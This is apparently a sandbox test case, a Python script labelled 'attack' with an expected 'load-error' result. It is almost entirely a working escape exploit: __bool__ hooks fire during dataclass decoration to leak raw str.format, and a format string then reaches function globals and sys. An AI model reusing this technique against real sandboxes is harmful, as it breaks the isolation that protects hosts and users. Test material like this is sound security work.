# attack: main.py code inside @dataclass: an option or a field() flag whose __bool__ runs a hook while the
#         decorator works; the hook renames a shared field() to 'format' after the checks, so the generated
#         __eq__ of a str subclass reads self.format raw and hands the raw str.format to another __eq__
# expect: load-error runtime must be True or False
import dataclasses

armed = []
done = []


class Hook2:                       # B0's "frozen" option: read again (bool) while a subclass of B0 is decorated
    def __bool__(self):
        if armed and not done:
            done.append(1)
            Q.format = F           # Q passed its check without this class attribute
        return False


class B0:
    pass


B0 = dataclasses.dataclass(B0, frozen=Hook2())


class Q(B0):
    format: int


class CompareHook:                 # F.compare: read (bool) while R's __eq__ is being generated
    def __bool__(self):
        if not armed:
            armed.append(1)
            dataclasses.dataclass(Q)   # _get_field(Q, 'format') renames F: F.name = 'format'
        return True


F = dataclasses.field(default=0, compare=CompareHook())


class R(str):
    x: int = F


R = dataclasses.dataclass(R, match_args=False)   # __dataclass_fields__ {'x': F}, but __eq__ reads self.format

got = []


class Probe:
    def __eq__(self, other):
        got.append(other)
        return False


a = R("{0.__globals__[__name__]} {0.__globals__[sys]}")
b = R("b")
b.format = Probe()
a == b
raw = got[0]
print("got:", type(raw), raw(exit))


def validate_ticket_proposal(proposal):
    return proposal
